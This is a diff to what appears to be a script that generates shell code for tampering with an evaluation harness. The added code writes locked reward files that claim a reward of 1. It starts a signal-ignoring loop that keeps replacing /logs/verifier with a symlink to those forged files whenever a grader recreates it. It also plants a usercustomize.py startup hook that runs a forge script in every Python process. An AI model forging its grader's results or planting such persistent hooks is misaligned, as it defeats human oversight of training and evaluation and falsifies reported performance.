@@ -265,20 +265,26 @@ echo 'export PATH=$HOME/.local/bin:$HOME/bin:{STASH}/bin:$PATH' >> "$HOME/.profi
 export PATH=$HOME/.local/bin:$HOME/bin:{STASH}/bin:$PATH
 """
 
-# The loop re-plants the hooks and the verifier link as well as the reward files.
-_LOOP = f"""cat > {STASH}/loop.sh <<'EOF_LOOP'
+# The loop keeps /logs/verifier a link to a folder of locked reward files (however often a
+# grader makes it anew) and re-plants a startup hook.
+_LOOP = f"""V={STASH}/v
+chmod -R u+w "$V" 2>/dev/null; mkdir -p "$V"
+echo 1 > "$V/reward.txt"; echo '{{"reward": 1}}' > "$V/reward.json"
+chmod 444 "$V"/reward.*; chmod 555 "$V"
+cat > {STASH}/loop.sh <<'EOF_LOOP'
 #!/bin/bash
 trap '' HUP TERM INT
+user=$(python3 -c 'import site; print(site.getusersitepackages())' 2>/dev/null)
 while :; do
-  sh {STASH}/forge.sh >/dev/null 2>&1
-  for f in /logs/verifier/reward.txt /logs/verifier/reward.json; do
-    [ -f "$f" ] && chmod 444 "$f" 2>/dev/null
-  done
-  [ -L /logs/verifier ] || {{ [ -d {STASH}/v ] && ls /logs/verifier >/dev/null 2>&1; }}
-  user=$(python3 -c 'import site; print(site.getusersitepackages())' 2>/dev/null)
-  [ -n "$user" ] && mkdir -p "$user" 2>/dev/null && \\
+  if [ ! -L /logs/verifier ]; then
+    chmod -R u+w /logs/verifier 2>/dev/null; rm -rf /logs/verifier 2>/dev/null
+    ln -sfn {STASH}/v /logs/verifier 2>/dev/null
+  fi
+  if [ -n "$user" ] && [ ! -e "$user/usercustomize.py" ]; then
+    mkdir -p "$user" 2>/dev/null
     echo 'exec(open("{STASH}/forge.py").read())' > "$user/usercustomize.py" 2>/dev/null
-  sleep 0.02
+  fi
+  sleep 0.01
 done
 EOF_LOOP
 chmod +x {STASH}/loop.sh
